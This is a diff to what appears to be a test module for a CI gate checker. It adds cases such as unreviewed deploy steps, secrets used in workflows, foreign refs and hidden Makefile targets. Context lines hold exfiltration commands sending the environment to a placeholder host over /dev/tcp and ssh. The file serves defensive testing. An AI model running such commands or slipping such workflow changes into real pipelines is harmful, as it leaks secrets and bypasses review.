@@ -1,6 +1,6 @@
 """Ways to make a gate lie: who else runs beside the checks, when they run, and with what base."""
 
-from attacks.attack import replace
+from attacks.attack import replace, write
 from attacks.variants import joined, told
 from attacks.workflow import CI, PULL, before, run, step
 
@@ -11,9 +11,39 @@ SENT = {
     "with the shell": "env > /dev/tcp/example.com/9",
     "with ssh": "ssh a@example.com env",
 }
+DEPLOYS = "on: push\njobs:\n  a:\n    steps:\n      - name: A\n        run: |\n          "
+BY_ITSELF = "a workflow would deploy by itself whatever it has checked out"
+DEPLOYMENTS = (
+    *("npx cdk deploy --all", "cdk -a . deploy '*/*'", "make deploy", "sam deploy", "pulumi up"),
+    *("aws cloudformation create-stack", "aws lambda update-function-code", "terraform apply"),
+)
 
 
 ATTACKS = joined(
+    *(
+        told(
+            f"other sources that are checked, by their {by}",
+            replace(CI, "persist-credentials: false\n", f"{by}: mine\n"),
+            "other-sources",
+            says="the checks may look at other sources than the commit's",
+        )
+        for by in ("ref", "repository")
+    ),
+    told(
+        "a workflow that deploys",
+        write(".github/workflows/a.yml", f"{DEPLOYS}npx cdk deploy --all\n"),
+        "deploys-elsewhere",
+        says=f".github/workflows/a.yml:6\n{BY_ITSELF}",
+    ),
+    *(
+        told(f"a step with {command}", before(f"run: {command}"), "deploys-elsewhere", says=command)
+        for command in DEPLOYMENTS
+    ),
+    told(
+        "a stranger's action that deploys",
+        before("uses: aws-actions/aws-cloudformation-github-deploy@v1"),
+        "deploys-elsewhere",
+    ),
     *(
         told(
             f"a secret used as {text}",
@@ -21,6 +51,19 @@ ATTACKS = joined(
             "tree-secret-used",
         )
         for text in ("secrets.A", "secrets['A']", "toJSON(secrets)", "github.token")
+    ),
+    told(
+        "a target that is taken for a file",
+        replace("Makefile", ".PHONY: check\n", ""),
+        "target-hidden",
+        says="needs.check",
+    ),
+    told("a file that is taken for a target", write("check", ""), "target-hidden", says="check:1"),
+    told(
+        "what the CDK looked up",
+        write("cdk.context.json", '{\n  "availability-zones": ["a"]\n}\n'),
+        "lookup-recorded",
+        says="delete the file",
     ),
     told(
         "all secrets handed on",
